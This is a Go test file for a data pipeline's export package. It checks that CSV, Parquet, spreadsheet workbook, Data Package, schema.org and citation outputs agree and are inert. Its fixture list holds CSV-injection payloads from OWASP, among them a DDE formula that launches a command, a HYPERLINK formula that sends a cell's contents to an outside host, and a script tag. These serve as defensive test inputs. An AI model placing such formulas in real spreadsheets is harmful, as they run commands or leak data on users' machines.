package takeaway

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"database/sql"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"farthing/pipeline/result"
	"farthing/pipeline/spreadsheet"

	_ "github.com/marcboeker/go-duckdb"
	"github.com/xuri/excelize/v2"
)

// hostile are texts that a spreadsheet may run, or that break a file that is
// written carelessly. Source of the first nine: OWASP, "CSV Injection".
var hostile = []string{`=1+1`, `=cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `@SUM(1,1)`, "\t=1+1", "\r=1+1", `=HYPERLINK("http://a.invalid?"&A1,"x")`, `＝1+1`,
	` =1+1`, "\u00a0=1+1", "\ufeff=1+1", "'=1+1", "\n=1+1", `",=1+1,"`, `;=1+1`, "a\"b,c\nd", `</t></is></c><c><f>1+1</f></c>`, `<script>alert(1)</script>`,
	`_x000D_`, `_x0041_`, `007`, `1e5`, `3-1`, `2024-02-29`, `TRUE`, `#REF!`, "  blanks  ", "\\", "ünïcode 日本 🥖", "a]]>b", `'`, `--`, `=`}

// town is a small edition with hostile names, gaps, negative numbers and tables without rows.
func town(t *testing.T) (*result.Edition, string) {
	t.Helper()
	e := &result.Edition{Dir: t.TempDir(), Meta: result.Meta{Name: `=Tavrin "& co"`, Invented: true, AsOf: "2024-12-31", FirstOn: "2023-01-01", Caution: "@Mind the gaps: they are gaps.\nAnd more."}}
	for i, h := range hostile {
		base := result.Base{CurrencyCode: "XTS", ObsStatus: "A", ObsStatusAll: "A", MissingShare: result.Some(0), ImputedShare: result.Some(1.0 / 3)}
		if i%2 == 0 {
			base.NObservations, base.NOutlets = result.Count(i), result.Count(3)
		}
		month := result.Month(2024*12 + i%12)
		reach := result.Reach{Programme: h, AmountKind: "maximum", Region: h, Household: "one", Basket: "staples", Month: month, Base: base}
		if i%3 > 0 {
			reach.Allowance, reach.Balance, reach.FedDays, reach.RunOutOn = result.Some(123.45675), result.Some(-0.25*float64(i)), result.Count(27), fmt.Sprintf("2024-02-%02d", i%28+1)
			reach.Days = result.Some(1e6 / 7)
		}
		e.Reach = append(e.Reach, reach)
		e.Items = append(e.Items, result.Item{Region: h, Item: h, Month: month, UnitPrice: result.Some(1.5), BaseUnit: "kg", MatchedChange: result.Some(-1.25), OldestOn: "1899-12-31", NewestOn: "2024-02-29", FilledBy: h, Base: base})
		e.Allowances = append(e.Allowances, result.Allowance{Programme: "p", AmountKind: "typical", Region: fmt.Sprint(i), Persons: result.Count(i), Month: month, Amount: result.Some(1e9 + 0.0625), EffectiveFrom: "2022-04-01", Source: h, File: h, Line: result.Count(i), Base: base})
	}
	sum := hex.EncodeToString(bytes.Repeat([]byte{0xab}, 32))
	e.Sources = []result.Source{{SHA256: sum, Name: "notes\n1\\.csv", Source: "notes", Producer: `=an "office": - [x]`, Licence: "CC BY 4.0"}, {SHA256: sum, Name: "=b.csv"}}
	e.Warnings = []result.Warning{{Code: "held", Text: "=3 prices are held", Cure: "look"}}
	if err := e.Write(e.Dir); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	out := csv.NewWriter(&b)
	_ = out.Write(result.Columns[result.ObservationRow]())
	for i, h := range hostile {
		_ = out.Write([]string{fmt.Sprintf("%012x", i+1), "2024-02-29", h, h, "", "oats", h, "", "0123456789012", h, "1 x 0.5 kg", "0.5", "kg", "", "1.080001", "2.1600", "regular", "quote", "retail", "XTS", "", h, "", "", "no", "abcdef012345", strconv.Itoa(i + 2)})
	}
	out.Flush()
	if err := os.WriteFile(filepath.Join(e.Dir, result.Observations), b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	var err error
	if e.Hash, err = result.Seal(e.Dir, nil); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := e.WriteData(dir); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, result.Observations), b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := Write(dir, e, nil); err != nil {
		t.Fatal(err)
	}
	return e, dir
}

func readAll(t *testing.T, path string) [][]string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
	if err != nil || len(rows) == 0 {
		t.Fatalf("%s: got %d rows, %v", path, len(rows), err)
	}
	return rows
}

// printed is a number as the CSV prints it.
func printed(c result.Column, v float64) string {
	if c.Decimals < 0 {
		return strconv.FormatFloat(v, 'f', -1, 64)
	}
	return strconv.FormatFloat(v, 'f', c.Decimals, 64)
}

// TestSameValues: Parquet, as the database engine reads it, the safe CSV and
// the workbook hold what the CSV holds, cell by cell.
func TestSameValues(t *testing.T) {
	e, dir := town(t)
	db, err := sql.Open("duckdb", "")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	book, err := excelize.OpenFile(filepath.Join(dir, Workbook))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	cells := 0
	for _, table := range result.Tables() {
		want := readAll(t, filepath.Join(dir, table.Name+".csv"))
		path := filepath.Join(dir, table.Name+".parquet")
		engine := parquetRows(t, db, path, table)
		if len(engine) != len(want)-1 {
			t.Fatalf("%s.parquet: got %d rows, want %d", table.Name, len(engine), len(want)-1)
		}
		var hash string
		if err := db.QueryRow("SELECT CAST(decode(value) AS VARCHAR) FROM parquet_kv_metadata(?) WHERE decode(key) = ?", path, EditionKey).Scan(&hash); err != nil || hash != e.Hash {
			t.Errorf("%s.parquet: got the hash %q, %v, want %q", table.Name, hash, err, e.Hash)
		}
		safe := readAll(t, filepath.Join(dir, SafeFolder, table.Name+".csv"))
		var sheet [][]string
		if len(want) > 1 {
			if sheet, err = book.GetRows(table.Name, excelize.Options{RawCellValue: true}); err != nil {
				t.Fatal(err)
			}
		} else if i, _ := book.GetSheetIndex(table.Name); i >= 0 {
			t.Errorf("%s: got a sheet without rows", table.Name)
		}
		for i, row := range want {
			for j, c := range table.Columns {
				got := safe[i][j]
				if c.Type == result.Text && i > 0 {
					got = strings.TrimPrefix(got, "'")
					if spreadsheet.Guard(row[j]) == row[j] {
						got = safe[i][j]
					}
				}
				if got != row[j] {
					t.Errorf("safe %s, row %d, %s: got %q, want %q", table.Name, i, c.Name, got, row[j])
				}
				if sheet != nil {
					got = ""
					if j < len(sheet[i]) {
						got = sheet[i][j]
					}
					if number := c.Type == result.Decimal && i > 0 && got != ""; number {
						v, err := strconv.ParseFloat(got, 64)
						if err != nil {
							t.Fatal(err)
						}
						got = printed(c, v)
					} else if c.Type == result.Day && i > 0 && row[j] >= "1900-03-01" {
						// 2024-02-29 is day 45351 of spreadsheets: 2024-01-01 is 45292 (from memory), and 59 days follow.
						if row[j] == "2024-02-29" && got != "45351" {
							t.Errorf("sheet %s, row %d, %s: got day %q, want 45351", table.Name, i, c.Name, got)
						}
						got = row[j]
					}
					if got != row[j] {
						t.Errorf("sheet %s, row %d, %s: got %q, want %q", table.Name, i, c.Name, got, row[j])
					}
				}
				if i == 0 {
					continue
				}
				cells++
				switch got := engine[i-1][j]; {
				case got == nil && row[j] == "" && !(c.Key && c.Type == result.Text):
				case got == nil, c.Type != result.Text && *got == "", *got != row[j]:
					t.Errorf("%s.parquet, row %d, %s: got %v, want %q", table.Name, i, c.Name, got, row[j])
				}
			}
		}
	}
	if cells < 3000 {
		t.Fatalf("got %d cells compared: too few", cells)
	}
}

// parquetRows reads a Parquet file by the database engine, numbers printed as
// the CSV prints them; nil is null. It wants the columns' types.
func parquetRows(t *testing.T, db *sql.DB, path string, table result.Table) (rows [][]*string) {
	t.Helper()
	types := map[result.Type]string{result.Text: "VARCHAR", result.MonthOfYear: "VARCHAR", result.Day: "DATE", result.Whole: "BIGINT", result.Decimal: "DOUBLE"}
	r, err := db.Query("SELECT * FROM read_parquet(?)", path)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	got, err := r.ColumnTypes()
	if err != nil || len(got) != len(table.Columns) {
		t.Fatalf("%s: got %d columns, %v", path, len(got), err)
	}
	for i, c := range table.Columns {
		if got[i].Name() != c.Name || got[i].DatabaseTypeName() != types[c.Type] {
			t.Errorf("%s: got column %s %s, want %s %s", path, got[i].Name(), got[i].DatabaseTypeName(), c.Name, types[c.Type])
		}
	}
	for r.Next() {
		cells, to := make([]any, len(got)), make([]any, len(got))
		for i := range cells {
			to[i] = &cells[i]
		}
		if err := r.Scan(to...); err != nil {
			t.Fatal(err)
		}
		row := make([]*string, len(cells))
		for i, v := range cells {
			if v == nil {
				continue
			}
			s := fmt.Sprint(v)
			switch v := v.(type) {
			case float64:
				s = printed(table.Columns[i], v)
			case interface{ Format(string) string }:
				s = v.Format("2006-01-02")
			}
			row[i] = &s
		}
		rows = append(rows, row)
	}
	if err := r.Err(); err != nil {
		t.Fatal(err)
	}
	return rows
}

// TestInert: no text of the safe CSV begins as a formula, and no cell of the
// workbook holds one.
func TestInert(t *testing.T) {
	_, dir := town(t)
	number := regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)
	guarded := 0
	for _, table := range result.Tables() {
		for i, row := range readAll(t, filepath.Join(dir, SafeFolder, table.Name+".csv")) {
			for j, cell := range row {
				// OWASP, "CSV Injection": =, +, -, @, tab, carriage return; line feed and full-width signs.
				rest := strings.TrimLeft(cell, " \u00a0\ufeff")
				if rest != "" && strings.ContainsAny(rest[:1], "=+-@\t\r\n") && (table.Columns[j].Type == result.Text || !number.MatchString(cell)) || strings.HasPrefix(rest, "＝") {
					t.Errorf("%s, row %d: got %q, which may run", table.Name, i, cell)
				}
				if strings.HasPrefix(cell, "'") {
					guarded++
				}
			}
		}
	}
	if guarded < 50 {
		t.Errorf("got %d texts with an apostrophe: the test went astray", guarded)
	}
	for name, part := range parts(t, filepath.Join(dir, Workbook)) {
		if strings.Contains(name, "external") || strings.Contains(name, "vba") || strings.Contains(name, "calcChain") {
			t.Errorf("got the part %s", name)
		}
		elements(t, name, part, func(el xml.StartElement) {
			if n := el.Name.Local; n == "f" || n == "hyperlink" || n == "ddeLink" || n == "mergeCell" {
				t.Errorf("%s: got an element %s", name, n)
			}
		})
	}
}

func parts(t *testing.T, path string) map[string][]byte {
	t.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	all := map[string][]byte{}
	var names []string
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		if all[f.Name], err = io.ReadAll(r); err != nil {
			t.Fatal(err)
		}
		names = append(names, f.Name)
	}
	if !slices.IsSorted(names) {
		t.Errorf("got the parts %v, want them in order", names)
	}
	return all
}

func elements(t *testing.T, name string, part []byte, each func(xml.StartElement)) {
	t.Helper()
	d := xml.NewDecoder(bytes.NewReader(part))
	for {
		tok, err := d.Token()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if el, ok := tok.(xml.StartElement); ok {
			each(el)
		}
	}
}

// TestWorkbook: the rules of the Government Analysis Function, "Releasing
// statistics in spreadsheets: checklist" (from memory): a cover sheet first,
// one marked table a sheet, column headers that are told apart, no blank rows,
// no merged cells (TestInert), and the header in view.
func TestWorkbook(t *testing.T) {
	e, dir := town(t)
	book, err := excelize.OpenFile(filepath.Join(dir, Workbook))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	if got, want := book.GetSheetList(), []string{"Cover", "Contents", "Columns", "reach", "item", "allowances", "observations"}; !slices.Equal(got, want) {
		t.Fatalf("got the sheets %v, want %v", got, want)
	}
	cover, err := book.GetRows("Cover")
	if err != nil {
		t.Fatal(err)
	}
	all := ""
	for i, row := range cover {
		if len(row) != 1 || row[0] == "" {
			t.Errorf("Cover, row %d: got %q, want one filled cell", i+1, row)
		} else {
			all += row[0] + "\n"
		}
	}
	for _, want := range []string{e.Name, e.Hash, "As of 2024-12-31", "Invented demo data", "@Mind the gaps", "=3 prices are held", `=an "office": - [x]`, "CC BY 4.0", "It is never 0"} {
		if !strings.Contains(all, want) {
			t.Errorf("Cover: no %q in\n%s", want, all)
		}
	}
	for _, name := range book.GetSheetList()[1:] {
		rows, err := book.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			if strings.Join(row, "") == "" {
				t.Errorf("%s: row %d is blank", name, i+1)
			}
		}
		seen := map[string]bool{}
		for _, h := range rows[0] {
			if h == "" || seen[h] {
				t.Errorf("%s: got the header %q", name, rows[0])
			}
			seen[h] = true
		}
		tables, err := book.GetTables(name)
		corner, _ := excelize.CoordinatesToCellName(len(rows[0]), len(rows))
		if err != nil || len(tables) != 1 || tables[0].Range != "A1:"+corner {
			t.Errorf("%s: got the tables %+v, %v, want one over A1:%s", name, tables, err, corner)
		}
		panes, err := book.GetPanes(name)
		if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
			t.Errorf("%s: got the panes %+v, %v", name, panes, err)
		}
	}
	for cell, want := range map[string]string{"reach!G3": "123.4568", "reach!O3": "2024-02-02", "reach!L3": "", "item!E2": "1.5000", "item!J2": "2024-02-29", "item!I2": "1899-12-31", "observations!O2": "1.080001", "observations!I2": "0123456789012", "reach!F2": "2024-01"} {
		sheet, at, _ := strings.Cut(cell, "!")
		if got, err := book.GetCellValue(sheet, at); err != nil || got != want {
			t.Errorf("%s: got %q, %v, want %q", cell, got, err, want)
		}
	}
	if kind, err := book.GetCellType("reach", "G3"); err != nil || kind != excelize.CellTypeUnset {
		t.Errorf("reach!G3: got cell type %v, %v, want a number", kind, err)
	}
	contents, err := book.GetRows("Contents")
	if err != nil || !slices.ContainsFunc(contents, func(r []string) bool { return r[0] == "basket" && strings.HasPrefix(r[3], "left out: it has no rows") }) {
		t.Errorf("Contents: got %v, %v", contents, err)
	}
	if props, err := book.GetDocProps(); err != nil || props.Identifier != e.Hash || props.Created != "2024-12-31T00:00:00Z" || props.Modified != props.Created {
		t.Errorf("got the properties %+v, %v", props, err)
	}
}

// TestTooLong: a table with more rows than a sheet takes is left out of the
// sheets, with the reason, and of nothing else.
func TestTooLong(t *testing.T) {
	e, _ := town(t)
	e.Reach = nil
	e.Items = slices.Repeat(e.Items[:1], SpreadsheetRows+1)
	dir := t.TempDir()
	if err := e.WriteData(dir); err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(filepath.Join(e.Dir, result.Observations))
	if err := os.WriteFile(filepath.Join(dir, result.Observations), b, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := Write(dir, e, nil); err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenFile(filepath.Join(dir, Workbook))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	if i, _ := book.GetSheetIndex("item"); i >= 0 {
		t.Error("got a sheet of item")
	}
	rows, err := book.GetRows("Contents")
	want := []string{"item", "50001", "", "left out: more than 50000 rows; take item.csv or item.parquet"}
	if err != nil || !slices.ContainsFunc(rows, func(r []string) bool { return r[0] == want[0] && r[1] == want[1] && r[3] == want[3] }) {
		t.Errorf("got %v, %v, want %v", rows, err, want)
	}
	if _, err := os.Stat(filepath.Join(dir, SafeFolder, "item.csv")); err == nil {
		t.Error("got a safe CSV of item")
	}
	db, err := sql.Open("duckdb", "")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	n := 0
	if err := db.QueryRow("SELECT count(*) FROM read_parquet(?)", filepath.Join(dir, "item.parquet")).Scan(&n); err != nil || n != SpreadsheetRows+1 {
		t.Errorf("got %d rows, %v", n, err)
	}
	if p := descriptor(t, dir); slices.ContainsFunc(p.Resources, func(r resource) bool { return r.Name == "item-spreadsheet" }) {
		t.Error("the package names a safe CSV that is not there")
	}
}

// TestSameBytes: the same edition gives the same files.
func TestSameBytes(t *testing.T) {
	e, dir := town(t)
	want := all(t, dir)
	for range 3 { // parts of a workbook came in the order of a map
		if err := Write(dir, e, nil); err != nil {
			t.Fatal(err)
		}
		for name, b := range all(t, dir) {
			if b != want[name] {
				t.Errorf("%s: other bytes", name)
			}
		}
	}
}

func all(t *testing.T, dir string) map[string]string {
	t.Helper()
	files := map[string]string{}
	if err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(path)
		rel, _ := filepath.Rel(dir, path)
		files[filepath.ToSlash(rel)] = string(b)
		return err
	}); err != nil {
		t.Fatal(err)
	}
	return files
}

func descriptor(t *testing.T, dir string) (p dataPackage) {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, DataPackage))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, &p); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestDataPackage holds the descriptor to the Data Package standard, version 2
// (datapackage.org/standard); the section stands beside each rule.
func TestDataPackage(t *testing.T) {
	e, dir := town(t)
	p := descriptor(t, dir)
	plain := regexp.MustCompile(`^[a-z0-9._-]+$`)
	files := all(t, dir)
	// Data Package, "$schema", "name", "version" (semantic versioning, with build metadata), "created" (RFC 3339).
	if p.Schema != "https://datapackage.org/profiles/2.0/datapackage.json" || !plain.MatchString(p.Name) || p.Version != "0.0.0+"+e.Hash ||
		p.Created != "2024-12-31T00:00:00Z" || p.Edition != e.Hash || !strings.Contains(p.Description, e.Hash) {
		t.Errorf("got %q %q %q %q %q", p.Schema, p.Name, p.Version, p.Created, p.Edition)
	}
	// Data Package, "sources": an array of objects with at least one property, a title recommended.
	if len(p.Sources) != 2 || p.Sources[0].Title == "" || p.Sources[1].Licence != "CC BY 4.0" {
		t.Errorf("got the sources %+v", p.Sources)
	}
	names, paths := map[string]bool{}, map[string]bool{}
	described := 0
	for _, r := range p.Resources {
		// Data Resource, "name": unique, of plain letters. "path": relative, POSIX, no "..". "bytes", "hash" with the algorithm before it.
		sum := sha256.Sum256([]byte(files[r.Path]))
		if !plain.MatchString(r.Name) || names[r.Name] || paths[r.Path] || strings.HasPrefix(r.Path, "/") || strings.Contains(r.Path, "..") || strings.Contains(r.Path, `\`) {
			t.Errorf("got the resource %q at %q", r.Name, r.Path)
		}
		if b, ok := files[r.Path]; !ok || int64(len(b)) != r.Bytes || r.Hash != "sha256:"+hex.EncodeToString(sum[:]) || r.Edition != e.Hash || r.MediaType == "" {
			t.Errorf("%s: got %d bytes, %s, %s", r.Path, r.Bytes, r.Hash, r.Edition)
		}
		names[r.Name], paths[r.Path] = true, true
		if r.Type == "" {
			continue
		}
		described++
		// Data Resource, "type" and "schema"; Table Dialect, "delimiter", "header".
		if r.Type != "table" || r.Table == nil || r.Encoding != "utf-8" || r.Dialect.Delimiter != "," || !r.Dialect.Header {
			t.Fatalf("%s: got %+v", r.Name, r)
		}
		rows := readAll(t, filepath.Join(dir, r.Path))
		if r.Rows == nil || *r.Rows != len(rows)-1 {
			t.Errorf("%s: got %v rows, want %d", r.Name, r.Rows, len(rows)-1)
		}
		checkTable(t, r.Name, *r.Table, rows)
	}
	if described != len(result.Tables()) {
		t.Errorf("got %d tables described, want %d", described, len(result.Tables()))
	}
	for name := range files {
		if ext := filepath.Ext(name); (ext == ".csv" || ext == ".parquet" || ext == ".xlsx") && !paths[name] {
			t.Errorf("%s stands in the folder and not in the package", name)
		}
	}
}

// checkTable holds rows to their schema.
func checkTable(t *testing.T, name string, s tableSchema, rows [][]string) {
	t.Helper()
	// Table Schema, "Types": number (no decimalChar, no groupChar), integer, date (default: YYYY-MM-DD), yearmonth (YYYY-MM), string.
	forms := map[string]*regexp.Regexp{"number": regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`), "integer": regexp.MustCompile(`^-?[0-9]+$`),
		"date": regexp.MustCompile(`^[0-9]{4}-(0[1-9]|1[0-2])-(0[1-9]|[12][0-9]|3[01])$`), "yearmonth": regexp.MustCompile(`^[0-9]{4}-(0[1-9]|1[0-2])$`), "string": regexp.MustCompile(`(?s).*`)}
	// "fields": in number and order those of the file (fieldsMatch exact, the default); "missingValues".
	if len(s.Fields) != len(rows[0]) || !slices.Equal(s.MissingValues, []string{""}) {
		t.Fatalf("%s: got %d fields, missing values %q", name, len(s.Fields), s.MissingValues)
	}
	key, keys := []int{}, map[string]bool{}
	for i, f := range s.Fields {
		if f.Name != rows[0][i] || f.Title == "" || f.Description == "" || forms[f.Type] == nil {
			t.Fatalf("%s: got the field %+v, want %q explained", name, f, rows[0][i])
		}
		// "primaryKey": names of fields.
		if slices.Contains(s.PrimaryKey, f.Name) {
			key = append(key, i)
		}
	}
	if len(key) == 0 || len(key) != len(s.PrimaryKey) {
		t.Errorf("%s: got the key %v", name, s.PrimaryKey)
	}
	for i, row := range rows[1:] {
		var k []string
		for j, f := range s.Fields {
			none := s.MissingValues
			if f.MissingValues != nil {
				none = *f.MissingValues // "Field", missingValues: of the field alone
			}
			null := slices.Contains(none, row[j])
			if !null && !forms[f.Type].MatchString(row[j]) {
				t.Errorf("%s, row %d: %s is %q, no %s", name, i+1, f.Name, row[j], f.Type)
			}
			if slices.Contains(key, j) {
				if null { // "primaryKey": the fields can not be null
					t.Errorf("%s, row %d: %s is null, and in the key", name, i+1, f.Name)
				}
				k = append(k, row[j])
			}
		}
		if keys[strings.Join(k, "\x00")] {
			t.Errorf("%s, row %d: the key %q stands twice", name, i+1, k)
		}
		keys[strings.Join(k, "\x00")] = true
	}
}

// TestLinked: what schema.org and Google's "Dataset structured data" ask of a
// Dataset: name and a description of 50 to 5000 characters (from memory).
func TestLinked(t *testing.T) {
	e, dir := town(t)
	text := all(t, dir)[JSONLD]
	var d map[string]any
	if err := json.Unmarshal([]byte(text), &d); err != nil {
		t.Fatal(err)
	}
	if d["@context"] != "https://schema.org/" || d["@type"] != "Dataset" || d["name"] != e.Name || d["version"] != e.Hash || d["temporalCoverage"] != "2023-01-01/2024-12-31" {
		t.Errorf("got %v %v %v %v %v", d["@context"], d["@type"], d["name"], d["version"], d["temporalCoverage"])
	}
	if n := len(d["description"].(string)); n < 50 || n > 5000 {
		t.Errorf("got a description of %d characters", n)
	}
	for _, x := range d["distribution"].([]any) {
		f := x.(map[string]any)
		if _, err := os.Stat(filepath.Join(dir, f["contentUrl"].(string))); err != nil || f["@type"] != "DataDownload" || len(f["sha256"].(string)) != 64 {
			t.Errorf("got %v, %v", f, err)
		}
	}
	if strings.ContainsAny(text, "<>") {
		t.Error("got < or >, which must be escaped so that the text may stand in a page")
	}
}

// TestCitation: the keys that the Citation File Format, version 1.2.0, requires
// ("Valid keys": authors, cff-version, message, title) and the types it gives them.
func TestCitation(t *testing.T) {
	e, dir := town(t)
	text := all(t, dir)[Citation]
	scalar := regexp.MustCompile(`^(?:  )*(?:- )?(?:[a-z-]+): ("(?:[^"\\]|\\["\\nrtu])*")?$`)
	got := map[string]string{}
	for i, l := range strings.Split(strings.TrimSuffix(text, "\n"), "\n") {
		m := scalar.FindStringSubmatch(l)
		if m == nil && !strings.HasSuffix(l, ":") {
			t.Errorf("line %d: got %q, want a key and a quoted text", i+1, l)
			continue
		}
		if k, v, _ := strings.Cut(l, ": "); m != nil && !strings.HasPrefix(l, " ") {
			got[k], _ = strconv.Unquote(v)
		}
	}
	if got["cff-version"] != "1.2.0" || got["type"] != "dataset" || got["title"] != e.Name || got["version"] != e.Hash || got["date-released"] != "2024-12-31" || got["message"] == "" {
		t.Errorf("got %v", got)
	}
	if !strings.Contains(text, "\nauthors:\n  - name: \"") || !strings.Contains(text, `name: "=an \"office\": - [x]"`) {
		t.Errorf("got\n%s", text)
	}
}

// TestReproduce: the list of hashes is one that sha256sum reads.
func TestReproduce(t *testing.T) {
	e, dir := town(t)
	home := t.TempDir()
	if err := os.MkdirAll(filepath.Join(home, "editions"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.CopyFS(filepath.Join(home, "editions", e.Hash), os.DirFS(e.Dir)); err != nil {
		t.Fatal(err)
	}
	text := all(t, dir)[Reproduce]
	if !strings.Contains(text, "farthing rebuild --compare") || !strings.Contains(text, "# Edition "+e.Hash) {
		t.Errorf("got\n%s", text)
	}
	sum := e.Sources[0].SHA256
	for _, want := range []string{`\` + sum + `  archive/` + sum + `/notes\n1\\.csv`, sum + "  archive/" + sum + "/=b.csv"} { // GNU coreutils manual, "md5sum invocation": escaping
		if !strings.Contains(text, "\n"+want+"\n") {
			t.Errorf("no %q in\n%s", want, text)
		}
	}
	tool, err := exec.LookPath("sha256sum")
	if err != nil {
		t.Skip("no sha256sum here to read the list with")
	}
	cmd := exec.Command(tool, "--check", "--strict", "--ignore-missing", "--quiet", "-")
	cmd.Dir, cmd.Stdin = home, strings.NewReader(text)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("%v\n%s", err, out)
	}
	if err := os.WriteFile(filepath.Join(home, "editions", e.Hash, "reach.csv"), []byte("other"), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd = exec.Command(tool, "--check", "--strict", "--ignore-missing", "--quiet", "-")
	cmd.Dir, cmd.Stdin = home, strings.NewReader(text)
	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "reach.csv") {
		t.Errorf("a changed file is not noticed: %s", out)
	}
}
